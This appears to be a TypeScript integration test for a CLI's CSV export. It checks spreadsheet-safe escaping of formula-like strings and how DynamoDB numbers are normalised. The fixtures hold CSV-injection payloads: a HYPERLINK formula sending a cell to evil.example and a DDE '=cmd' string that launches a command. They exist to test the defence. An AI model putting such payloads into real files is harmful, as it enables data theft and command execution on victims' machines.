// Two ways a cell differs from the value as sent, checked through the built CLI against the
// emulator and read back with a real CSV parser (csv-parse, strict): --spreadsheet-safe (OWASP CSV
// injection: formula-looking strings get a leading ', numbers stay numbers), and numbers rendered
// as DynamoDB returns them (moto stores `-0`, `2.0`, `1e2` as sent; DynamoDB normalises them).
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runCli } from "../../support/cli";
import { emulatorClients, emulatorEnv } from "../../support/emulator";
import { configFile, createTable, createVersionedBucket, N, putItems, readText, S, TEST_KEY_ARN } from "./support";

const DAY = "2026-11-22";

const formulas = {
  id: S("f-1"),
  fecha: S(`${DAY}T10:00:00Z`),
  estado: S('=HYPERLINK("http://evil.example/?"&A1,"click")'),
  mas: S("+34 600 000 000"),
  menos: S("-3"),
  arroba: S("@SUM(A1:A9)"),
  tab: S("\t=1"),
  cr: S("\r=1"),
  punto_y_coma: S("ok;=cmd|' /C calc'!A0"),
  negativo: N("-12.5"),
  texto: S('plain, "quoted"'),
};

const unnormalised = {
  id: S("n-1"),
  fecha: S(`${DAY}T11:00:00Z`),
  cero: N("-0"),
  dos: N("2.0"),
  cien: N("1e2"),
  ceros: N("007.50"),
  pequeno: N("1.5E-3"),
  mapa: { M: { a: N("-0.0"), b: { L: [N("+1E+2")] } } },
  conjunto: { NS: ["1.50", "5e-1"] },
};

describe("export cell options (CLI, emulator, csv-parse)", () => {
  const clients = emulatorClients();
  const env = emulatorEnv();
  let table: string;
  let bucket: string;
  const plainConfig = configFile("UTC", 1);
  const safeConfig = (() => {
    const path = join(mkdtempSync(join(tmpdir(), "trace-export-safe-")), "trace.config.yaml");
    writeFileSync(
      path,
      "environments:\n  test:\n    stage: test\n    region: us-east-1\n    timeZone: UTC\n    exportSegments: 1\n    spreadsheetSafe: true\n    retentionDays: 365\n",
    );
    return path;
  })();
  const target = () => ["--table", table, "--bucket", bucket, "--kms-key", TEST_KEY_ARN];
  const rowsOf = (csv: string) => {
    const [header, ...rows] = parse(csv, { relax_column_count: false, relax_quotes: false }) as string[][];
    return rows.map((row) => Object.fromEntries((header as string[]).map((name, i) => [name, row[i]])));
  };
  const byId = (csv: string, id: string) => rowsOf(csv).find((r) => r.id === id) as Record<string, string>;

  beforeAll(async () => {
    table = await createTable(clients);
    bucket = await createVersionedBucket(clients);
    await putItems(clients, table, [formulas, unnormalised]);
  });
  afterAll(() => clients.destroy());

  it("by default every string stays verbatim and the manifest says spreadsheetSafe: false", async () => {
    const run = await runCli(["--config", plainConfig, "--json", "export", "--date", DAY, ...target()], { env });
    expect(run.code, run.stderr).toBe(0);
    expect(JSON.parse(run.stdout)).toMatchObject({ spreadsheetSafe: false });
    const row = byId(await readText(clients, bucket, `exports/${table}/dt=${DAY}/${table}_${DAY}.csv`), "f-1");
    expect(row).toMatchObject({
      estado: formulas.estado.S,
      mas: "+34 600 000 000",
      menos: "-3",
      tab: "\t=1",
      cr: "\r=1",
      negativo: "-12.5",
    });
  });

  it("--spreadsheet-safe escapes formula strings with ', keeps numbers and RFC 4180 quoting, records it in the manifest", async () => {
    const run = await runCli(["--config", plainConfig, "--json", "export", "--date", DAY, "--spreadsheet-safe", ...target()], { env });
    expect(run.code, run.stderr).toBe(0);
    expect(JSON.parse(run.stdout)).toMatchObject({ spreadsheetSafe: true, rows: 2 });
    const manifest = JSON.parse(await readText(clients, bucket, `exports/${table}/dt=${DAY}/_manifest.json`));
    expect(manifest.spreadsheetSafe).toBe(true);
    const csv = await readText(clients, bucket, `exports/${table}/dt=${DAY}/${table}_${DAY}.csv`);
    expect(byId(csv, "f-1")).toEqual({
      id: "f-1",
      fecha: `${DAY}T10:00:00Z`,
      estado: `'${formulas.estado.S}`,
      mas: "'+34 600 000 000",
      menos: "'-3",
      arroba: "'@SUM(A1:A9)",
      tab: "'\t=1",
      cr: "'\r=1",
      punto_y_coma: "ok;=cmd|' /C calc'!A0",
      negativo: "-12.5",
      texto: 'plain, "quoted"',
      // the other record's columns, empty here
      cero: "",
      dos: "",
      cien: "",
      ceros: "",
      pequeno: "",
      mapa: "",
      conjunto: "",
    });
    // The ; cell is quoted, so a spreadsheet that splits on ; keeps it one cell.
    expect(csv).toContain(`"ok;=cmd|' /C calc'!A0"`);
  });

  it("the environment's spreadsheetSafe turns it on; --no-spreadsheet-safe turns it off again", async () => {
    const on = await runCli(["--config", safeConfig, "export", "--date", DAY, "--out", "-", ...target()], { env });
    expect(on.code, on.stderr).toBe(0);
    expect(byId(on.stdout, "f-1").menos).toBe("'-3");
    const off = await runCli(["--config", safeConfig, "export", "--date", DAY, "--out", "-", "--no-spreadsheet-safe", ...target()], {
      env,
    });
    expect(off.code, off.stderr).toBe(0);
    expect(byId(off.stdout, "f-1").menos).toBe("-3");
  });

  it("numbers come out as DynamoDB returns them, though the emulator kept them as sent", async () => {
    const run = await runCli(["--config", plainConfig, "export", "--date", DAY, "--out", "-", ...target()], { env });
    expect(run.code, run.stderr).toBe(0);
    expect(byId(run.stdout, "n-1")).toMatchObject({
      cero: "0",
      dos: "2",
      cien: "100",
      ceros: "7.5",
      pequeno: "0.0015",
      mapa: '{"a":0,"b":[100]}',
      conjunto: "[0.5,1.5]",
    });
  });
});
